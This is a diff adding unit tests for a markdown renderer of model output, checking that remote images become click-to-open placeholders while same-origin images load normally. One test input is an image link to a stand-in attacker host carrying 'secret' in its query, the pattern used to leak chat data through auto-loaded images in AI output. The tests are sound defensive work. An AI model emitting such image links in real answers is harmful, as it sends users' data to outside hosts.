@@ -67,4 +67,55 @@ describe("Markdown rendering of model output", () => {
     expect(container.querySelector("code b")).toBeNull();
     expect(container.querySelector("code")).toHaveTextContent("const tag = '<b>not bold</b>';");
   });
+
+  it("does not load images from elsewhere: a placeholder with their text and host opens them on request", () => {
+    const container = renderMarkdown(
+      'Here: ![the chart](https://attacker.example/p.png?q=secret "Chart") and ' +
+        `![other port](${location.protocol}//${location.hostname}:1/p.png)`,
+    );
+    expect(container.querySelector("img")).toBeNull();
+    const placeholders = [...container.querySelectorAll("a.remote-image")];
+    expect(placeholders).toHaveLength(2);
+    const [chart, otherPort] = placeholders;
+    expect(chart).toHaveTextContent("the chart");
+    expect(chart).toHaveTextContent("Image from attacker.example — open");
+    expect(chart).toHaveAttribute("href", "https://attacker.example/p.png?q=secret");
+    expect(chart).toHaveAttribute("title", "Chart");
+    expect(chart).toHaveAttribute("target", "_blank");
+    expect(chart).toHaveAttribute("rel", "noopener noreferrer");
+    expect(otherPort).toHaveTextContent(`Image from ${location.hostname}:1 — open`);
+  });
+
+  it("loads images of the app's own origin as they are", () => {
+    const container = renderMarkdown(`![logo](/favicon.svg) ![icon](${location.origin}/icons/icon-192.png)`);
+    const images = [...container.querySelectorAll("img")];
+    expect(images.map((image) => image.getAttribute("src"))).toEqual([
+      "/favicon.svg",
+      `${location.origin}/icons/icon-192.png`,
+    ]);
+    expect(images[0]).toHaveAttribute("alt", "logo");
+    expect(container.querySelector(".remote-image")).toBeNull();
+  });
+
+  it("shows a remote image inside a link as a label of that link, without a link in a link", () => {
+    const container = renderMarkdown(
+      "[![badge](https://cdn.example/badge.svg)](https://example.com/project)",
+    );
+    expect(container.querySelector("img")).toBeNull();
+    const links = [...container.querySelectorAll("a")];
+    expect(links).toHaveLength(1);
+    expect(links[0]).toHaveAttribute("href", "https://example.com/project");
+    expect(links[0]).toHaveTextContent("badge");
+    expect(links[0]).toHaveTextContent("Image from cdn.example");
+    expect(links[0]).not.toHaveTextContent("open");
+  });
+
+  it("shows an image address that is no web address as its text only", () => {
+    const container = renderMarkdown(
+      "![mail](mailto:someone@example.com) ![relative host](//attacker.example/p.png)",
+    );
+    expect(container.querySelector("img, a")).toBeNull();
+    expect(container).toHaveTextContent("mail");
+    expect(container).toHaveTextContent("relative host");
+  });
 });
